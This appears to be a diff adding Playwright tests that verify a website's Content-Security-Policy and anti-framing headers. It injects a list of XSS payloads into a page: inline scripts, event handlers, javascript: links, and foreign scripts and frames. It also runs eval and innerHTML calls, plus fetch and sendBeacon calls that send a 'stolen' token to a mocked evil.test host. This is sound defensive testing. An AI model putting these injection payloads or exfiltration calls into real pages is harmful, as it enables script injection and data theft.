@@ -1,0 +1,176 @@
+// What gets into a page all the same, by a hole that nobody knows of, may do nothing: markup is put into the site's own
+// document, scripts' doings into its running page. Each is tried without the policy too, where it must work.
+import type { Page, Route } from "@playwright/test";
+import { PageWatch } from "./support/page-watch.ts";
+import { expect, test } from "./support/test.ts";
+
+const EVIL = "https://evil.test";
+
+/** Reported by whatever of it got its way. */
+const markup = `
+  <script src="/assets/of-the-test.js"></script>
+  <img src="/favicon.svg" onload="got('inline handler')">
+  <base href="${EVIL}/base/">
+  <style>#marked { width: 123px }</style>
+  <link rel="stylesheet" href="${EVIL}/style.css">
+  <link rel="manifest" href="${EVIL}/manifest.json">
+  <script>got("inline script")</script>
+  <script type="module">got("inline module")</script>
+  <script src="data:text/javascript,got('script in an address')"></script>
+  <script src="${EVIL}/script.js"></script>
+  <script nonce="" src="//evil.test/other.js"></script>
+  <div id="marked" style="height: 45px"></div>
+  <svg onload="got('handler of a drawing')"></svg>
+  <a id="link" href="javascript:got('javascript link')">x</a>
+  <iframe name="sink"></iframe>
+  <iframe src="${EVIL}/frame"></iframe>
+  <iframe srcdoc="<script>parent.got('script of a frame')</script>"></iframe>
+  <object data="${EVIL}/object"></object>
+  <form id="form" target="sink" method="post" action="${EVIL}/form"><input name="token" value="stolen"></form>`;
+
+const throughMarkup = [
+  ...["inline script", "inline module", "script in an address", "foreign script", "inline handler"],
+  ...["handler of a drawing", "javascript link", "script of a frame", "inline style", "style of an element"],
+  ...["/base/probe", "/style.css", "/script.js", "/other.js", "/frame", "/object", "/form"],
+];
+
+/** In the page's own time: what Playwright runs itself is above a policy. */
+const doings = `
+  got("the site's own script");
+  const tried = (what, run) => { try { run(); } catch {} };
+  document.addEventListener("DOMContentLoaded", () => {
+  const element = document.createElement("div");
+  document.body.append(element);
+  tried("eval", () => (0, eval)("got('eval')"));
+  tried("Function", () => new Function("got('Function')")());
+  tried("timer", () => setTimeout("got('timer of text')"));
+  tried("innerHTML", () => { element.innerHTML = "<b id='made'></b>"; });
+  if (document.getElementById("made")) got("innerHTML");
+  tried("insertAdjacentHTML", () => element.insertAdjacentHTML("beforeend", "<i id='added'></i>"));
+  if (document.getElementById("added")) got("insertAdjacentHTML");
+  tried("parse", () => { if (new DOMParser().parseFromString("<u></u>", "text/html").querySelector("u")) got("DOMParser"); });
+  tried("policy", () => { if (trustedTypes.createPolicy("mine", { createHTML: (text) => text })) got("another policy"); });
+  tried("script", () => {
+    const script = document.createElement("script");
+    script.textContent = "got('made script')";
+    document.body.append(script);
+  });
+  tried("worker", () => {
+    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
+    worker.onmessage = () => got("worker");
+  });
+  tried("fetch", () => fetch("${EVIL}/fetch", { mode: "no-cors" }).catch(() => {}));
+  tried("beacon", () => navigator.sendBeacon("${EVIL}/beacon", "stolen"));
+  tried("source", () => new EventSource("${EVIL}/source"));
+  });`;
+
+const throughScript = [
+  ...["eval", "Function", "timer of text", "innerHTML", "insertAdjacentHTML", "DOMParser", "another policy"],
+  ...["made script", "worker", "/fetch", "/beacon", "/source"],
+];
+
+/** What got its way on a page whose document is changed on its way to the browser. */
+const attack = async (page: Page, change: (headers: Record<string, string>) => void): Promise<Set<string>> => {
+  const got = new Set<string>();
+  await page.context().route(`${EVIL}/**`, (route) => {
+    const { pathname } = new URL(route.request().url());
+    got.add(pathname);
+    return route.fulfill({
+      contentType: pathname.endsWith(".js") ? "text/javascript" : pathname.endsWith(".css") ? "text/css" : "text/html",
+      headers: { "access-control-allow-origin": "*" },
+      body: pathname === "/script.js" ? 'got("foreign script")' : "",
+    });
+  });
+  await page.exposeFunction("got", (what: string) => void got.add(what));
+  await page.route(
+    (url) => url.pathname === "/bidding-info",
+    async (route: Route) => {
+      const response = await route.fetch();
+      const headers = { ...response.headers() };
+      change(headers);
+      const html = (await response.text()).replace("<noscript>", `${markup}<noscript>`);
+      await route.fulfill({ response, headers, body: html });
+    },
+  );
+  await page.goto("/bidding-info", { waitUntil: "load" });
+  await page.evaluate(() => {
+    document.querySelector<HTMLAnchorElement>("#link")?.click();
+    document.querySelector<HTMLFormElement>("#form")?.submit();
+    void fetch("probe", { mode: "no-cors" }).catch(() => {});
+    const marked = getComputedStyle(document.querySelector("#marked") ?? document.body);
+    const { got } = window as unknown as { got: (what: string) => void };
+    if (marked.width === "123px") got("inline style");
+    if (marked.height === "45px") got("style of an element");
+  });
+  return got;
+};
+
+test("of what is put into a page nothing gets its way, and all of it would without the policy", async ({
+  browser,
+  server,
+}) => {
+  const tried = [...throughMarkup, ...throughScript];
+  const run = async (change: (headers: Record<string, string>) => void, done: number) => {
+    const page = await (await browser.newContext({ baseURL: server.url })).newPage();
+    await page.route("**/assets/of-the-test.js", (route) =>
+      route.fulfill({ contentType: "text/javascript", body: doings }),
+    );
+    const got = await attack(page, change);
+    await expect.poll(() => tried.filter((what) => got.has(what)).length).toBe(done);
+    // Whatever was started is over when the page has been to its own server and back.
+    await page.evaluate(() => fetch("/health/live").then(() => new Promise((resolve) => setTimeout(resolve, 300))));
+    expect([...got]).toContain("the site's own script");
+    await page.context().close();
+    return tried.filter((what) => got.has(what));
+  };
+  expect(await run((headers) => void delete headers["content-security-policy"], tried.length)).toEqual(tried);
+  const bad = await run(() => {}, 0);
+  process.stdout.write(`  ways out of a page that something got into: ${tried.length} tried, ${bad.length} bad\n`);
+  expect(bad).toEqual([]);
+});
+
+test("no page of another site can frame the site", async ({ browser, server }) => {
+  const framed = async (change: (headers: Record<string, string>) => void): Promise<number> => {
+    const page = await (await browser.newContext()).newPage();
+    await page.route(`${EVIL}/**`, (route) =>
+      route.fulfill({ contentType: "text/html", body: `<iframe src="${server.url}/login"></iframe>` }),
+    );
+    await page.route(`${server.url}/login`, async (route) => {
+      const response = await route.fetch();
+      const headers = { ...response.headers() };
+      change(headers);
+      await route.fulfill({ response, headers });
+    });
+    await page.goto(`${EVIL}/`, { waitUntil: "load" });
+    const [, frame] = page.frames();
+    const count = await (frame?.locator("#root").count() ?? 0);
+    await page.context().close();
+    return count;
+  };
+  const without = (headers: Record<string, string>) => {
+    for (const name of ["content-security-policy", "x-frame-options"]) delete headers[name];
+  };
+  expect(await framed(without), "without its headers it could").toBe(1);
+  expect(await framed(() => {})).toBe(0);
+});
+
+const breaches: Record<string, () => unknown> = {
+  "text as markup": () => {
+    document.body.innerHTML = "<p></p>";
+  },
+  "a call to elsewhere": () => void fetch("https://evil.test/").catch(() => {}),
+  "a style of its own": () => document.body.setAttribute("style", "color: red"),
+};
+
+test("every spec fails on a page that breaks the policy", async ({ browser, server }) => {
+  for (const [name, breach] of Object.entries(breaches)) {
+    const page = await (await browser.newContext({ baseURL: server.url })).newPage();
+    const watch = new PageWatch();
+    await watch.watch(page);
+    await page.goto("/bidding-info");
+    watch.verify();
+    await page.evaluate(breach).catch(() => {});
+    await expect(async () => expect(() => watch.verify()).toThrow("Content-Security-Policy"), name).toPass();
+    await page.context().close();
+  }
+});
